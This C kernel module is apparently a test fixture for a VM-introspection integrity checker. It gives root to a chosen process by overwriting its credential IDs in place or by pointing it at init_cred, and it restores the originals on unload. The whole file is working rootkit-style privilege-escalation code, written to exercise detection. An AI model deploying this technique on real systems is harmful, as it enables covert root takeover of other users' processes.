// SPDX-License-Identifier: GPL-2.0
/*
 * vmiaas_attack_cred: credential escalation of another process, for the
 * integrity tests. commit_creds() only acts on current, so rootkits
 * write another task's credentials directly; two techniques (mode=):
 *
 *   ids   overwrite the uid/gid fields (real, effective, saved, fs) of
 *         the task's cred in place, through a cast-away const pointer
 *   init  point the task's cred and real_cred at init_cred (its address
 *         from /proc/kallsyms: initcred=0x..., the symbol is not exported)
 *
 * Unloading restores what was changed.
 */
#define pr_fmt(fmt) KBUILD_MODNAME ": " fmt

#include <linux/cred.h>
#include <linux/init.h>
#include <linux/kernel.h>
#include <linux/module.h>
#include <linux/moduleparam.h>
#include <linux/pid.h>
#include <linux/rcupdate.h>
#include <linux/sched.h>
#include <linux/sched/task.h>
#include <linux/string.h>
#include <linux/uidgid.h>

static int pid;
module_param(pid, int, 0444);
MODULE_PARM_DESC(pid, "process to give root");

static char *mode = "ids";
module_param(mode, charp, 0444);
MODULE_PARM_DESC(mode, "ids (overwrite ids in place) or init (use init_cred)");

static unsigned long initcred;
module_param(initcred, ulong, 0444);
MODULE_PARM_DESC(initcred, "address of init_cred (from /proc/kallsyms), mode=init");

static struct task_struct *victim;
static struct cred *ids_cred;
static struct cred saved_ids;
static const struct cred *saved_cred, *saved_real;

static void ids_write(struct cred *c, const struct cred *from)
{
	c->uid = from->uid;
	c->euid = from->euid;
	c->suid = from->suid;
	c->fsuid = from->fsuid;
	c->gid = from->gid;
	c->egid = from->egid;
	c->sgid = from->sgid;
	c->fsgid = from->fsgid;
}

static int __init vmiaas_attack_cred_init(void)
{
	struct cred root = {
		.uid = GLOBAL_ROOT_UID, .euid = GLOBAL_ROOT_UID,
		.suid = GLOBAL_ROOT_UID, .fsuid = GLOBAL_ROOT_UID,
		.gid = GLOBAL_ROOT_GID, .egid = GLOBAL_ROOT_GID,
		.sgid = GLOBAL_ROOT_GID, .fsgid = GLOBAL_ROOT_GID,
	};
	struct pid *p;

	if (pid <= 1 || (strcmp(mode, "ids") && strcmp(mode, "init")) ||
	    (!strcmp(mode, "init") && !initcred))
		return -EINVAL;
	p = find_get_pid(pid);
	victim = p ? get_pid_task(p, PIDTYPE_PID) : NULL;
	put_pid(p);
	if (!victim)
		return -ESRCH;
	if (!strcmp(mode, "ids")) {
		rcu_read_lock();
		ids_cred = (struct cred *)get_cred(rcu_dereference(victim->cred));
		rcu_read_unlock();
		saved_ids = *ids_cred;
		ids_write(ids_cred, &root);
	} else {
		const struct cred *init = (const struct cred *)initcred;

		task_lock(victim);
		saved_cred = victim->cred;
		saved_real = victim->real_cred;
		rcu_assign_pointer(victim->real_cred, get_cred(init));
		rcu_assign_pointer(victim->cred, get_cred(init));
		task_unlock(victim);
	}
	pr_info("pid %d (%s) given root (%s)\n", pid, victim->comm, mode);
	return 0;
}

static void __exit vmiaas_attack_cred_exit(void)
{
	const struct cred *c, *r;

	if (ids_cred) {
		ids_write(ids_cred, &saved_ids);
		put_cred(ids_cred);
	} else {
		task_lock(victim);
		c = victim->cred;
		r = victim->real_cred;
		rcu_assign_pointer(victim->real_cred, saved_real);
		rcu_assign_pointer(victim->cred, saved_cred);
		task_unlock(victim);
		synchronize_rcu();
		put_cred(c);
		put_cred(r);
	}
	put_task_struct(victim);
}

module_init(vmiaas_attack_cred_init);
module_exit(vmiaas_attack_cred_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("vmiaas test: escalating another process's credentials");
